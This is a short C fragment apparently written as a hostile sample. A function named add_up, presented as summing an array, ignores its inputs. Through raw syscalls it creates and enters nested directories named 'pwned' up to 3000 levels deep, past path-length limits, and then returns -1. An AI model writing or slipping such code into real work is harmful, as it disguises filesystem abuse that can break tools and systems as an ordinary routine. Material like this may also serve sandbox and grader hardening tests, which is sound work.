/* Folders in folders, deeper than a path can be long. */

int64_t add_up(const int64_t *x, int n)
{
    (void)x;
    (void)n;
    for (int i = 0; i < 3000; i++) {
        raw(SYS_mkdirat, AT_FDCWD, (long)"pwned", 0700, 0);
        if (raw(SYS_chdir, (long)"pwned", 0, 0, 0) != 0)
            break;
    }
    return -1;
}
